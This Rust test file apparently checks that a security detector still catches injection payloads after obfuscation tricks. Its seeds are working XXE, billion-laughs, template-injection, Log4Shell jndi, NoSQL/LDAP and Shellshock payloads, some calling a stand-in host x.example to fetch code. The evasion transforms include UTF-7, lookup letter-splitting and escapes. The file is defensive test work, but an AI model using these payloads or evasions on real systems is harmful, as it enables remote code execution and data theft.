//! What readers of documents and loggers would resolve: XML, templates, lookups, filters, headers.

use super::coats::{BASE64, ESCAPE, FULL_WIDTH, HEX, HTML, INVISIBLE, PERCENT};
use super::harness::{Rng, Subject, Transformation, assert_found};

/// Blanks where XML takes any.
const BLANKS: Transformation = Transformation {
    name: "blanks",
    applies: |text| text.contains("<!") && text.contains(' '),
    apply: |text, rng| text.split(' ').collect::<Vec<_>>().join(rng.pick(&["  ", "\n", "\t", "\r\n  "])),
};

/// The document in another, or in a string of it.
const WRAPPED: Transformation = Transformation {
    name: "wrapped",
    applies: |text| text.len() < 2_000 && !text.contains("]]>"),
    apply: |text, rng| match rng.below(4) {
        0 => format!("<soap:Body><x><![CDATA[{text}]]></x></soap:Body>"),
        1 => format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{text}"),
        2 => format!("<!-- a --><!DOCTYPE html>\n{text}"),
        _ => serde_json::to_string(text).expect("a string is JSON"),
    },
};

/// The signs of XML in UTF-7.
const UTF7: Transformation = Transformation {
    name: "utf-7",
    applies: |text| text.is_ascii() && text.contains("<!") && !text.contains('+') && !text.contains("+A"),
    apply: |text, _| text.replace('<', "+ADw-").replace('!', "+ACE-").replace('"', "+ACI-"),
};

#[test]
fn no_dress_hides_an_external_entity() {
    let seeds = Subject::Value(vanguard_engine::Role::Text).each([
        r#"<!DOCTYPE r [<!ENTITY e SYSTEM "file:///srv/x">]><r>&e;</r>"#,
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x.example/p.dtd"> %p;]><r/>"#,
        r#"<!DOCTYPE r PUBLIC "-//X//Y" "http://x.example/r.dtd"><r/>"#,
        r#"<!DOCTYPE r [<!ENTITY e SYSTEM "php://filter/resource=x">]><r>&e;</r>"#,
        r#"<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///srv/x"/></a>"#,
        r#"<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><l>&c;</l>"#,
    ]);
    assert_found(&seeds, &[BLANKS, WRAPPED, UTF7, PERCENT, HTML, ESCAPE, BASE64, HEX, FULL_WIDTH], 150, 0.99);
}

/// A string in pieces, as an engine puts it together.
const PIECES: Transformation = Transformation {
    name: "pieces",
    applies: |text| text.starts_with("{{") && text.contains("'__"),
    apply: |text, rng| {
        let sign = rng.pick(&["'~'", "'+'", "' ~ '"]);
        text.replace("'__", &format!("'__{sign}"))
    },
};

/// Strings in escapes of Python and JavaScript.
const UNDERSCORES: Transformation = Transformation {
    name: "underscores",
    applies: |text| text.starts_with("{{") && text.contains("'__") && !text.contains('\\'),
    apply: |text, rng| text.replace("__", rng.pick(&[r"\x5f\x5f", r"\u005f\u005f", r"\x5f_"])),
};

/// Blanks and trimming signs inside the delimiters.
const TRIMMED: Transformation = Transformation {
    name: "trimmed",
    applies: |text| text.starts_with("{{") && text.ends_with("}}") && !text.starts_with("{{-"),
    apply: |text, rng| {
        let inner = &text[2..text.len() - 2];
        match rng.below(3) {
            0 => format!("{{{{- {inner} -}}}}"),
            1 => format!("{{{{\n  {inner}\n}}}}"),
            _ => format!("{{% if {inner} %}}x{{% endif %}}"),
        }
    },
};

/// A word or two round it.
const AMONG_WORDS: Transformation = Transformation {
    name: "among words",
    applies: |text| text.len() < 1_000,
    apply: |text, rng| {
        format!("{}{text}{}", rng.pick(&["", "Hello ", "x=", "1 "]), rng.pick(&["", " and so on", "!", " 2"]))
    },
};

#[test]
fn no_dress_hides_a_template() {
    let seeds = Subject::Value(vanguard_engine::Role::Text).each([
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ x['__class__']['__mro__'] }}",
        "{{ x|attr('__globals__')|attr('__getitem__')('os') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ constructor.constructor('return process')() }}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        r#"<#assign e="freemarker.template.utility.Execute"?new()>${e("id")}"#,
        "<%= system('id') %>",
        "#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))",
        "{{ ['id']|filter('system') }}",
    ]);
    let coats = [PIECES, UNDERSCORES, TRIMMED, AMONG_WORDS, PERCENT, HTML, BASE64, FULL_WIDTH, INVISIBLE];
    assert_found(&seeds, &coats, 120, 0.99);
}

/// Some letters as lookups that give them.
const LOOKUPS: Transformation = Transformation {
    name: "lookups",
    applies: |text| text.starts_with("${jndi") || text.starts_with("${J"),
    apply: |text, rng| {
        let (head, rest) = text.split_at(2);
        let (name, rest) = rest.split_at(4);
        format!("{head}{}{rest}", rng.some_chars(name, 60, letter))
    },
};

fn letter(c: char, rng: &mut Rng) -> String {
    match rng.below(7) {
        0 => format!("${{lower:{}}}", c.to_ascii_uppercase()),
        1 => format!("${{upper:{c}}}"),
        2 => format!("${{::-{c}}}"),
        3 => format!("${{env:NOT_SET_{}:-{c}}}", rng.below(100)),
        4 => format!("${{date:'{c}'}}"),
        5 => format!("${{lower:${{upper:{c}}}}}"),
        _ => format!("${{sys:x:-${{::-{c}}}}}"),
    }
}

#[test]
fn no_lookup_hides_jndi() {
    let seeds = Subject::Value(vanguard_engine::Role::Text).each([
        "${jndi:ldap://x.example/a}",
        "${jndi:rmi://x.example:1099/a}",
        "${jndi:dns://x.example}",
        "${JNDI:LDAP://x.example/a}",
    ]);
    assert_found(&seeds, &[LOOKUPS, AMONG_WORDS, PERCENT, HTML, ESCAPE, BASE64, FULL_WIDTH, INVISIBLE], 250, 0.99);
}

/// Keys and strings of JSON and JavaScript in their other quotes.
const QUOTES: Transformation = Transformation {
    name: "quotes",
    applies: |text| text.starts_with('{') && text.contains("\"$") && text.contains("\":") && !text.contains('\''),
    apply: |text, rng| match rng.below(3) {
        0 => text.replace('"', "'"),
        1 => text.replace("\"$", "$").replacen("\":", ":", 1),
        _ => text.replace(':', " : ").replace('{', "{ "),
    },
};

#[test]
fn no_spelling_hides_an_operator() {
    let seeds = Subject::Value(vanguard_engine::Role::Id).each([
        r#"{"$ne": null}"#,
        r#"{"$gt": ""}"#,
        r#"{"$where": "sleep(5000)"}"#,
        "user[$ne]=x",
        "x', $where: '1 == 1'",
        "*)(uid=*))(|(uid=*",
        "x'] | //user/*[contains(*,'",
    ]);
    assert_found(&seeds, &[QUOTES, PERCENT, HTML, ESCAPE], 150, 0.99);
}

/// The blanks that bash takes between the signs of a function.
const SPACED: Transformation = Transformation {
    name: "spaced",
    applies: |text| text.contains("() {"),
    apply: |text, rng| text.replacen("() {", rng.pick(&["(){", "()  {", "() { ", "()\t{"]), 1),
};

#[test]
fn no_spelling_hides_a_function_with_a_command() {
    let seeds = Subject::Value(vanguard_engine::Role::Text).each([
        "() { :; }; /bin/id",
        "() { ignored; }; wget http://x.example/a",
        "() { _; } >_[$($())] { id; }",
        "() { :;}; echo vulnerable",
    ]);
    assert_found(&seeds, &[SPACED, PERCENT, HTML, ESCAPE, BASE64, HEX, FULL_WIDTH], 200, 0.99);
}
